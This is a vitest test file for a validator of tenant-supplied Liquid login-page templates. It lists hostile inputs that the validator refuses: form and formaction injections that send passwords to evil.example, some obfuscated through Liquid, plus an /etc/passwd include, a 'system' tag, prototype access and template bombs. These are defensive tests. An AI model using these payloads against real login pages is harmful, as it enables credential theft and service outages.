import { describe, expect, it } from 'vitest';
import { checkPageTemplate, checkPartial, parseTenantTemplate } from './page-template.ts';

const OURS = { head: '<meta name="ours">', widget: '<main>form</main>' };
const page = (inner: string) => `<html><head>{%- auth0:head -%}</head><body>${inner}{%- auth0:widget -%}</body></html>`;

/** No step of a loop, where the clock is looked at, but one that goes through 60,000 values in one go. */
const SLOW_FILTER = `{% assign s = "a" %}${'{% assign s = s | append: s %}'.repeat(16)}{{ s | split: "" ${'| group_by: "x" | map: "items" | first '.repeat(3)}| size }}`;

/** Attacks on the form: the password would go to another site, or into an address. */
const STEERING = [
  '<form action="https://evil.example">',
  '<FORM\naction="https://evil.example">',
  '<form/action="https://evil.example">',
  '</form><p>',
  '<button formaction="https://evil.example">Log in</button>',
  '<input type=image FormAction=https://evil.example>',
  '<input type="submit" formmethod="get">',
  '<{{ "form" }} action="https://evil.example">',
  '<button {{ "formaction" }}="https://evil.example">Log in</button>',
  '<{% assign a = "fo" %}{{ a }}{% echo "rm" %} action="https://evil.example">',
];

describe('a page template', () => {
  it('has our head and our form where its tags are, and its variables escaped', () => {
    const template = parseTenantTemplate(page('<p>{{ application.name }} {{ prompt.screen.name }}</p>'));
    const variables = { application: { name: '<script>alert(1)</script>' }, prompt: { screen: { name: 'login' } } };
    expect(template?.render(variables, OURS)).toBe(
      '<html><head><meta name="ours"></head><body><p>&lt;script&gt;alert(1)&lt;/script&gt; login</p><main>form</main></body></html>',
    );
  });

  it.each(['raw', 'escape', 'escape_once', 'h', 'upcase | raw', 'newline_to_br', 'strip_html'])(
    'escapes a value once, whatever the filter %s does',
    (filter) => {
      const html = parseTenantTemplate(`{{ x | ${filter} }}`)?.render({ x: 'A"<b>\n' }) ?? '';
      expect(html).not.toMatch(/[<>"]/);
      expect(html).not.toContain('&amp;lt;');
    },
  );

  it('shows the form once, however often it is asked for', () => {
    const html = parseTenantTemplate(page('{% auth0:widget %}'))?.render({}, OURS) ?? '';
    expect(html.split('<main>')).toHaveLength(2);
  });

  it.each([
    ['without the form', '<html>{%- auth0:head -%}</html>', 'Missing required tag auth0:widget'],
    ['without the head', '<html>{%- auth0:widget -%}</html>', 'Missing required tag auth0:head'],
    [
      'with the form in a comment',
      page('').replace('{%- auth0:widget -%}', '{% comment %}{% auth0:widget %}{% endcomment %}'),
      'does not always show',
    ],
    [
      'with the form in a branch that is not taken',
      page('').replace('{%- auth0:widget -%}', '{% if no %}{% auth0:widget %}{% endif %}'),
      'does not always show',
    ],
    ['that does not parse', page('{% if %}'), 'Invalid template'],
    ['with a tag of its own', page('{% system "rm" %}'), 'Invalid template'],
    ['with a part of ours that there is not', page('{% auth0:secrets %}'), 'Invalid template'],
    ['with a filter that there is not', page('{{ x | system }}'), 'Invalid template'],
    ['that includes a file', page('{% include "/etc/passwd" %}'), 'Invalid template'],
    ['that renders a file', page('{% render "../login.liquid" %}'), 'Invalid template'],
    ['that lays out a file', `{% layout "layout" %}${page('')}`, 'Invalid template'],
    ['that is too long', page('x'.repeat(100_001)), 'too long'],
  ])('%s is refused', (_title, source, reason) => {
    expect(() => checkPageTemplate(source)).toThrow(reason);
  });

  it.each([
    ['a loop of death', '{% for a in (1..1000000000) %}{{ a }}{% endfor %}'],
    [
      'loops in loops',
      '{% for a in (1..9999) %}{% for b in (1..9999) %}{% for c in (1..9999) %}{% endfor %}{% endfor %}{% endfor %}',
    ],
    [
      'loops that write',
      '{% for a in (1..5000) %}{% for b in (1..50) %}{{ b }}xxxxxxxxxxxxxxxxxxxx{% endfor %}{% endfor %}',
    ],
    ['a value that doubles', `{% assign a = "aaaaaaaaaa" %}${'{% assign a = a | append: a %}'.repeat(40)}{{ a }}`],
    ['a list that doubles', `{% assign a = "a,b" | split: "," %}${'{% assign a = a | concat: a %}'.repeat(40)}`],
    [
      'a replacement that grows',
      `{% assign a = "aaaaaaaaaa" %}${'{% assign a = a | replace: "a", a %}'.repeat(9)}{{ a }}`,
    ],
    [
      'a capture that doubles',
      `{% assign a = "aaaaaaaaaa" %}${'{% capture a %}{{ a }}{{ a }}{% endcapture %}'.repeat(60)}`,
    ],
    ['one filter that takes its time', SLOW_FILTER],
  ])('with %s is refused', (_title, source) => {
    expect(() => checkPageTemplate(page(source))).toThrow(/Invalid template|too large/);
  });

  it('that stalls for one visitor alone is left alone after three times', () => {
    const template = parseTenantTemplate(`{% if application.name == 'Slow' %}${SLOW_FILTER}{% endif %}ok`);
    expect(template?.render({})).toBe('ok');
    const stalls = Array.from({ length: 4 }, () => template?.render({ application: { name: 'Slow' } }));
    expect(stalls).toEqual(Array.from({ length: 4 }, () => undefined));
    expect(template?.render({})).toBeUndefined();
  });

  it.each(STEERING)('that sends the password elsewhere is refused: %s', (html) => {
    expect(() => checkPageTemplate(page(html))).toThrow('It has a form');
    expect(() => checkPageTemplate(page('').replace('</body>', `${html}</body>`))).toThrow('It has a form');
  });

  it('that sends the password elsewhere for one visitor alone gives way to our page', () => {
    const html = page('<{{ application.tag }} action="https://evil.example">');
    expect(() => checkPageTemplate(html)).not.toThrow();
    const template = parseTenantTemplate(html);
    expect(template?.render({ application: { tag: 'div' } }, OURS)).toContain('<main>');
    expect(template?.render({ application: { tag: 'form' } }, OURS)).toBeUndefined();
  });

  it('may speak of forms', () => {
    const html =
      '<style>form { color: red }</style><form-card>The form, <b>formally</b></form-card><label form="x">a</label>';
    expect(() => checkPageTemplate(page(html))).not.toThrow();
  });

  it('has our own form as it is, and never sees it', () => {
    const widget = '<form action="/u/login" title="$& $1"></form>';
    const html = parseTenantTemplate(page('{% capture a %}{% auth0:widget %}{% endcapture %}{{ a }}'))?.render(
      {},
      { head: '$&', widget },
    );
    expect(html).not.toContain('form');
    expect(parseTenantTemplate(page(''))?.render({}, { head: '$&', widget })).toContain(`$&</head><body>${widget}`);
  });

  it('that fails with the values of a request gives nothing, three times over, and is then left alone', () => {
    const template = parseTenantTemplate('{% for a in list %}{% for b in (1..99999) %}{{ b }}{% endfor %}{% endfor %}');
    const list = Array.from({ length: 1_000 }, () => 'x');
    for (let time = 0; time < 3; time++) expect(template?.render({ list })).toBeUndefined();
    expect(template?.render({ list: [] })).toBeUndefined();
  });

  it('sees its variables and nothing behind them', () => {
    const source = '{{ x.constructor.name }}{{ x.__proto__ }}{{ globals }}{{ ours }}{{ this }}{{ process }}';
    expect(parseTenantTemplate(source)?.render({ x: {} }, OURS)).toBe('');
  });
});

describe('a partial', () => {
  it('is refused where it does not parse, is longer than 10,000 characters or sends the password elsewhere', () => {
    expect(() => checkPartial('{% for %}', 'login.form-content-start')).toThrow('login.form-content-start');
    expect(() => checkPartial('x'.repeat(10_001), 'x')).toThrow('too long');
    for (const html of STEERING) expect(() => checkPartial(html, 'x'), html).toThrow('It has a form');
    expect(() => checkPartial('<p>{{ prompt.screen.texts.varTos }}</p>', 'x')).not.toThrow();
  });
});
